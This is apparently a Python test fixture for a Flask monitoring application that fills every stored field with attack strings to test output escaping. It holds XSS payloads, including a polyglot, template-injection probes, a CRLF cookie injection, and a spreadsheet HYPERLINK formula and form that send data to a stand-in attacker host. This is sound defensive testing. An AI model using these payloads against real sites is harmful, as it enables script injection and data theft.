"""An office whose every collected and typed field is an attack, and the way to every address that the page answers.

Addresses are taken from the application itself, so that a screen added later is attacked without anybody writing a line
here; one whose place-holders need more than a number is reached deeper once `places` gives it a value that stands.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from flask import Flask
from werkzeug.routing import Rule

from monitor.capture import desk, pictures
from monitor.models import (
    AccountRef,
    Actor,
    Basis,
    Capture,
    Confidence,
    Door,
    ItemKind,
    Level,
    Outcome,
    Page,
    Parent,
    Phase,
    Platform,
    ReasonCode,
    Request,
    Response,
    Role,
    SeenAct,
    State,
    User,
)
from tests.fakes_capture import JudgingWorld, png
from tests.fakes_web import NOW, OTHER_REGION, PASSWORD, REGION, SEEDS, Seed

MARK = "serangannetra"
"""Stands in every attack: what runs sets `window.serangannetra`, what is evaluated shows its product."""
RUN = f"window.{MARK}=1"
POLYGLOT = (
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e"
)
TEXTS = (
    POLYGLOT,
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"' autofocus onfocus={RUN} x='",
    f"</title></textarea></select><svg onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe><base href=//jahat.invalid/><meta http-equiv=refresh content=0;url=//jahat.invalid>",
    f"<form action=//jahat.invalid><input name=csrf_token><button autofocus>{MARK}</button></form><link rel=stylesheet href=//jahat.invalid/a.css>",
    "{{7777*3}} ${7777*3} <%= 7777*3 %> #{7777*3} {% print(7777*3) %} {{config}} {{self.__init__.__globals__}}",
    f"\u202e\u0000\u200b{MARK}\ud800\u2028\x1b[31m\r\nSet-Cookie: {MARK}=1",
    f'=HYPERLINK("http://jahat.invalid/?"&A1,"{MARK}")',
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt://contoh.invalid/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"\tjava\nscript:{RUN}",
    f'https://contoh.invalid/"onmouseover={RUN} x="',
    f"//jahat.invalid/{MARK}",
    f"https://contoh.invalid@jahat.invalid/{MARK}",
    "blob:https://contoh.invalid/1",
    "file:///etc/passwd",
)
EVALUATED = "23331"
TOKEN = "tidak-ada"

UNKNOWN = "1"

# Place-holders of addresses and what stands for them.
Places = dict[str, str]


class HostileOffice(JudgingWorld):
    """A page with the rules' desk, captures with pictures, decisions with notes, and attacks in every field."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        create = self.store.users.create
        evil = TEXTS[1] + TEXTS[0]
        self.admin = create("kepala", evil, PASSWORD, [Role.ADMIN])
        self.author = create("penyusun", evil, PASSWORD, [Role.RULE_AUTHOR])
        self.approver = create("penyetuju", evil, PASSWORD, [Role.RULE_APPROVER])
        self.far = create("jauh", evil, PASSWORD, [Role.MONITOR, Role.COORDINATOR], [OTHER_REGION])
        self.hostile = [self._attack(place) for place in range(len(TEXTS))]
        self.plain = self.flag(SEEDS[0])
        self.capture = self._capture()
        self._decide()
        self.fail("sumber-" + TEXTS[1], Outcome.SCHEMA_DRIFT, TEXTS[2])
        self.office.governance.refresh_shipped()

    def _attack(self, place: int) -> int:
        """Put one flag into the store with an attack in every field that a collector or a roster fills."""
        text, link = TEXTS[place], LINKS[place % len(LINKS)]
        owner = AccountRef(Platform.FACEBOOK, f"pemilik{place}{text}", text, text)
        seed = Seed(
            f"{text} Nama{place}", (ItemKind.COMMENT, ItemKind.POST, ItemKind.ARTICLE, ItemKind.SHARE)[place % 4],
            Platform.FACEBOOK, f"{text} dukung {text}", title=text, parent=Parent(f"induk{place}", link, text, owner),
            level=Level.HIGH, phase=Phase.QUIET, words=f"{text} dukung", rule=f"{_sound(text)} aturan", post=text, office=text,
            region=REGION if place % 2 else _sound(text), confidence=Confidence.VERIFIED, handle=text, basis=Basis.ACCOUNT_ID,
        )  # fmt: skip
        self._number += 1
        person = self._person(seed)
        account = next(one for one in self.store.roster.accounts() if one.person_id == person.person_id)
        item_id = self.collect(seed, f"butir{place}{text}", link, text)
        actor = Actor(person, seed.basis, 1.0, account=account, appointment=person.appointments[0], same_name=2)
        return self.screen(item_id, actor, self.opinion(seed, place))

    def collect(self, seed: Seed, native_id: str, link: str = "", text: str = "") -> int:
        """Collect an item, here with an outside address and author as hostile as its text."""
        item_id = super().collect(seed, native_id)
        if not link:
            return item_id
        stored = self.store.items.get(item_id)
        assert stored is not None
        author = AccountRef(seed.platform, f"akun-{self._number}", text, text)
        edited = replace(stored.item, url=link, author=author, text=stored.item.text + " disunting", happened_raw=text)
        body = f"<script>{RUN}</script>".encode()
        response = Response(Request("berkas.jsonl", "file"), self.clock(), None, status=200, body=body)
        sha256, run_id = self.archive.put(response, "uji"), self.store.runs.begin("collect")
        page = Page(Outcome.OK_ITEMS, (edited,))
        self.store.items.save_page(
            source_id="berkas-rekaan", run_id=run_id, response=response, page=page, evidence_sha256=sha256
        )
        self.store.runs.finish(run_id, {"new": 1})
        return item_id

    def _capture(self) -> int:
        content = png()
        person = self.person(TEXTS[1], (Platform.INSTAGRAM, "ig-9", TEXTS[2]), post=TEXTS[3])
        self.captured = person
        account = AccountRef(Platform.INSTAGRAM, "ig-9", TEXTS[2], TEXTS[1])
        made = Capture(
            Door.OFFICER, SeenAct.COMMENT, person, REGION, account, f"tangkapan:{TEXTS[2]}", "instagram:x", TEXTS[2],
            LINKS[0], NOW - timedelta(hours=3), owner=AccountRef(Platform.INSTAGRAM, TEXTS[1], TEXTS[2], TEXTS[3]),
            words=TEXTS[1], about=TEXTS[4], note=TEXTS[0], known_by=TEXTS[5],
        )  # fmt: skip
        return desk.record(
            self.store, self.archive, made, [(pictures.verify(content), content)], self.monitor, self.clock(), TEXTS[1]
        )

    def _decide(self) -> None:
        append, who = self.store.decisions.append, self.monitor.user_id
        self.cleared = self.flag(SEEDS[5])
        decision = append(self.cleared, who, State.CLEARED, ReasonCode.NOT_PARTISAN, TEXTS[0], expected=None)
        self.decision = decision.decision_id
        append(self.hostile[0], who, State.IN_REVIEW, None, TEXTS[1], expected=None)

    def places(self) -> Places:
        """Give a standing value for every place-holder of an address."""
        capture = self.store.captures.get(self.capture)
        assert capture is not None
        return {
            "flag_id": str(self.hostile[1]), "version": "1", "capture_id": str(self.capture), "place": "0",
            "decision_id": str(self.decision), "user_id": str(self.monitor.user_id), "session_id": "424242",
            "silence_id": "1", "stop_id": "1", "version_id": "1", "item_id": "1", "token": TOKEN,
            "sha256": capture.pictures[0].sha256, "name": "asn/ajakan-dukung-sasaran.yaml", "filename": "app.css",
            "person_id": str(self.captured), "account_id": "1", "pack_id": "1", "filter_id": "1", "job_id": "1",
            "draft_id": "1", "review_id": "1", "question_id": "1", "objection_id": "1", "kind": "form-a", "form": "pdf",
            "event_id": "1", "number": "1", "group_id": "1", "run_id": "1", "part": "1", "day": "2025-06-26",
            "template": "form-a", "case_id": "1", "check_id": "1", "outcome_id": "1", "document": "form-a",
        }  # fmt: skip


def _sound(text: str) -> str:
    """Give a text as a rule or a region can hold it: those refuse what cannot be printed."""
    return "".join(one for one in text if one.isprintable())


def addresses(app: Flask, places: Places, method: str) -> Iterator[tuple[Rule, str]]:
    """Give every address of the page that answers a method, its place-holders filled; one without a value gets 1."""
    for rule in sorted(app.url_map.iter_rules(), key=lambda one: one.rule):
        if method in (rule.methods or set()) and rule.endpoint != "static":
            yield rule, re.sub(r"<(?:[^:<>]+:)?([^<>]+)>", lambda found: places.get(found[1], UNKNOWN), rule.rule)


def everybody(office: HostileOffice) -> list[User]:
    """Give one user for every role."""
    return [one for one in office.store.users.list() if one.active]
